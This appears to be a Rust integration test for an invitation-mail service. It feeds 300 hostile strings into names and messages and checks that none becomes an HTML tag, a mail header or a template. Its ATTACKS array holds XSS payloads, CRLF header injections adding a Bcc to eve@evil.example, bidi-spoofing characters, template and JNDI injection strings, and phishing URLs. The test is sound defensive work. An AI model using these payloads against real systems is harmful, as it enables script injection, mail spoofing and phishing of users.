//! What people write stands in others' mails. None of it becomes a tag, a header or a template there, and what is harmless
//! arrives as it was written.

use std::collections::{HashMap, hash_map::Entry};

use base64::{Engine, engine::general_purpose::STANDARD};
use html5gum::{Token, Tokenizer};
use reqwest::Method;
use serde_json::{Value, json};
use usher_local::mailbox::Mail;

use crate::app::{App, Response, with_app};

/// What could be done with a text, each in several ways.
const ATTACKS: [&str; 50] = [
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "</td></tr></table><h1>Pay here</h1>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"https://evil.example\">click</a>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" style=\"display:none",
    "<!-- comment",
    "--><p>out</p><!--",
    "<![endif]--><p>out</p>",
    "<style>*{display:none}</style>",
    "</title></head><body>",
    "&lt;b&gt;&amp;&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "<scr\0ipt>",
    "\0",
    "a\0b",
    "Ann\r\nBcc: eve@evil.example",
    "Ann\nSubject: Other",
    "Ann\rX-Header: 1",
    "Ann\r\n\r\n<html>body</html>",
    "Ann%0d%0aBcc: eve@evil.example",
    "=?utf-8?q?Bcc:_eve?=",
    "Ann\u{2028}Bcc: eve",
    "Ann\u{2029}Bcc: eve",
    "Ann\u{85}Bcc: eve",
    "Ann\u{b}Bcc: eve",
    "\u{202e}elpmaxe.live",
    "\u{202d}a\u{202c}",
    "\u{2066}a\u{2069}\u{2067}b",
    "\u{200f}שלום\u{200e}",
    "مرحبا بكم في Acme",
    "{{accept_url}}",
    "{{{accept_url}}}",
    "{{#if message}}x{{/if}}",
    "{{#each this}}{{@key}}{{/each}}",
    "{{>partial}}{{lookup . 'a'}}",
    "{{decline_url_html}}",
    "[[button]]",
    "\\{{email}}",
    "${jndi:ldap://evil.example/a}",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "Z\u{334}\u{33f}\u{30a}a\u{321}\u{358}lgo",
    "\u{feff}\u{200b}x\u{ad}",
    "https://evil.example/login?a=b",
    "www.evil.example",
    "mailto:eve@evil.example",
    "javascript:alert(1)",
    "O'Neil & Söhne \"GmbH\" <sales> 100% 1 + 1 = 2",
];

/// The three hundred: each attack by itself, around and between other words, very long, twice, and with what closes what
/// might be open.
fn values() -> Vec<String> {
    ATTACKS
        .iter()
        .flat_map(|attack| {
            [
                (*attack).to_owned(),
                format!("Ann {attack}"),
                format!("{attack} Lee"),
                attack.repeat(1 + 90 / attack.len()),
                format!("\"'>{attack}<!--"),
                format!("}}}}{attack}{{{{"),
            ]
        })
        .collect()
}

/// What a mail program makes of the HTML: its elements with the names of their attributes, and its text.
fn read(html: &str) -> (Vec<String>, String) {
    let (mut elements, mut text) = (vec![], String::new());
    for Ok(token) in Tokenizer::new(html) {
        match token {
            Token::StartTag(tag) if *tag.name == b"br"[..] => text.push('\n'),
            Token::StartTag(tag) => {
                let names = tag
                    .attributes
                    .keys()
                    .map(|name| String::from_utf8_lossy(name).into_owned());
                let names: Vec<_> = names.collect();
                elements.push(format!(
                    "{} {}",
                    String::from_utf8_lossy(&tag.name),
                    names.join(" ")
                ));
            }
            Token::EndTag(tag) => elements.push(format!("/{}", String::from_utf8_lossy(&tag.name))),
            Token::String(string) => text.push_str(&String::from_utf8_lossy(&string)),
            Token::Comment(_) => elements.push("comment".to_owned()),
            _ => {}
        }
    }
    (elements, text)
}

/// The text less what Usher puts into it, and what it takes out: marks that are not seen.
fn seen(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    let marks =
        |c: char| matches!(c, '\u{200b}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let kept = text.chars().filter(|c| !marks(*c));
    kept.map(|c| {
        if matches!(c, '\r' | '\u{2028}' | '\u{2029}') {
            '\n'
        } else {
            c
        }
    })
    .collect()
}

/// Where one of the texts stands: as the product's name, the person's, that of who invites, the message, and the sender's name.
const PLACES: [&str; 5] = ["product", "person", "inviter", "message", "sender"];

/// At which of the places it was taken.
type Taken = [bool; PLACES.len()];

/// The text as it is given at a place: with a mark, so that one that is lost there is not found elsewhere in the mail.
fn marked(value: &str, place: usize) -> String {
    format!("{value} ~{place}")
}

async fn set(app: &App, token: &str, settings: &Value) -> Response {
    app.change_as(
        token,
        Method::PUT,
        "/v1/settings",
        Some("*"),
        Some(settings),
    )
    .await
}

/// In a tenant that has this name for its product and for who sends, invites a person of this name, with this message, as who
/// has this name. Where the text is refused it is left out. Says where it was taken.
async fn invite(app: &App, tenant: &str, email: &str, value: &str) -> Taken {
    let [product, name, inviter, message, sender] =
        [0, 1, 2, 3, 4].map(|place| marked(value, place));
    let token = app.token(&json!({"tenant": tenant, "name": inviter})).await;
    let mut places = [true; PLACES.len()];
    let mut settings = json!({"product_name": product, "sender_name": sender});
    loop {
        let answer = set(app, &token, &settings).await;
        if answer.status == 200 {
            break;
        }
        let (field, place) = match answer.body["field"].as_str() {
            Some("product_name") => ("product_name", 0),
            Some("sender_name") => ("sender_name", 4),
            _ => panic!("{value:?}: {answer:?}"),
        };
        (settings[field], places[place]) = (Value::Null, false);
    }
    let mut body = json!({"invitees": [{"email": email, "name": name}], "message": message});
    let id = loop {
        let answer = app.post_as(&token, "/v1/invitations", &body).await;
        if answer.status == 400 {
            assert_eq!(answer.body["field"], "message", "{answer:?}");
            (body["message"], places[3]) = (Value::Null, false);
            continue;
        }
        assert_eq!(answer.status, 200, "{value:?}: {answer:?}");
        let row = &answer.body["results"][0];
        if row["outcome"] == "invited" {
            break row["user_id"].as_str().unwrap().to_owned();
        }
        assert_eq!(row["outcome"], "invalid_invitee", "{value:?}");
        (body["invitees"][0]["name"], places[1]) = (Value::Null, false);
    };
    let user = app.get_as(&token, &format!("/v1/users/{id}")).await.body;
    places[2] = !user["invited_by"]["name"].is_null();
    places
}

/// The same with harmless texts, in those places.
async fn invite_plainly(
    app: &App,
    tenant: &str,
    email: &str,
    [product, name, inviter, message, sender]: Taken,
) {
    let token = app
        .token(&json!({"tenant": tenant, "name": if inviter { "Zoë" } else { "" }}))
        .await;
    let settings = json!({
        "product_name": product.then_some("Rockets"),
        "sender_name": sender.then_some("Bea"),
    });
    assert_eq!(set(app, &token, &settings).await.status, 200);
    let body = json!({
        "invitees": [{"email": email, "name": name.then_some("Bo")}],
        "message": message.then_some("Hello"),
    });
    let answer = app.post_as(&token, "/v1/invitations", &body).await;
    assert_eq!(answer.body["counts"]["invited"], 1, "{answer:?}");
}

#[tokio::test]
async fn three_hundred_hostile_texts_become_no_tag_no_header_and_no_template() {
    with_app(async |app| {
        let values = values();
        assert_eq!(values.len(), 300);
        let mut all = vec![];
        // How a mail looks to which harmless texts were given in the same places.
        let mut plain: HashMap<Taken, String> = HashMap::new();
        for (nth, value) in values.iter().enumerate() {
            let taken = invite(
                app,
                &format!("t{nth}"),
                &format!("p{nth}@example.com"),
                value,
            )
            .await;
            if let Entry::Vacant(entry) = plain.entry(taken) {
                let email = entry.insert(format!("plain{nth}@example.com"));
                invite_plainly(app, &format!("plain{nth}"), email, taken).await;
            }
            all.push(taken);
        }
        app.stack.settled().await;
        let mail = |to: &str| -> Mail {
            let mails = app.stack.mailbox.list(Some(to));
            assert_eq!(mails.len(), 1, "{to}");
            (*mails[0]).clone()
        };
        for (nth, (value, taken)) in values.iter().zip(&all).enumerate() {
            let (mail, plain) = (mail(&format!("p{nth}@example.com")), mail(&plain[taken]));
            let (elements, text) = read(&mail.html);
            assert_eq!(elements, read(&plain.html).0, "{value:?}");
            assert!(
                mail.headers.keys().eq(plain.headers.keys()),
                "{value:?}: {:?}",
                mail.headers
            );
            if taken[4] {
                let written = unicode(marked(value, 4).trim());
                assert_eq!(sender(&mail.from), written, "{value:?}: {}", mail.from);
            } else {
                assert_eq!(mail.from, plain.from, "{value:?}");
            }
            assert!(
                !mail.subject.contains(char::is_control),
                "{value:?}: {:?}",
                mail.subject
            );
            // Names with such are refused, and messages lose them: they would turn what follows around.
            assert!(!mail.text.contains(['\u{202d}', '\u{202e}']), "{value:?}");
            for (place, name) in PLACES[..4].iter().enumerate() {
                let written = unicode(&seen(marked(value, place).trim()));
                for (shown, part) in [(&mail.text, "text"), (&text, "HTML")] {
                    assert_eq!(
                        seen(shown).contains(&written),
                        taken[place],
                        "{value:?} as {name} in the {part}: {shown}"
                    );
                }
            }
        }
        // Else the test would show little, and nobody would see that more is refused.
        let taken = [0, 1, 2, 3, 4].map(|place| all.iter().filter(|taken| taken[place]).count());
        assert_eq!(taken, [194, 173, 173, 270, 173]);
    })
    .await;
}

/// The name in `From:` as mail programs read it (RFC 5322, RFC 2047). It is one line of what can be seen, so that nothing in it
/// is a header of its own, and there is one address in it.
fn sender(from: &str) -> String {
    let seen = |byte| (b' '..=b'~').contains(&byte);
    assert!(from.bytes().all(seen), "{from:?}");
    let name = from.strip_suffix(" <invitations@example.com>").unwrap();
    if let Some(quoted) = name.strip_prefix('"') {
        let (mut name, mut rest) = (String::new(), quoted.chars());
        loop {
            match rest.next().unwrap() {
                '\\' => name.extend(rest.next()),
                '"' => break,
                c => name.push(c),
            }
        }
        assert_eq!(rest.as_str(), "", "{from:?}");
        return name;
    }
    let words = name.split(' ').flat_map(|word| {
        let word = word.strip_prefix("=?utf-8?b?").unwrap();
        STANDARD.decode(word.strip_suffix("?=").unwrap()).unwrap()
    });
    String::from_utf8(words.collect()).unwrap()
}

/// As Usher keeps texts: in Unicode's composed form.
fn unicode(text: &str) -> String {
    usher::domain::Message::parse(text).map_or_else(|_| text.to_owned(), String::from)
}
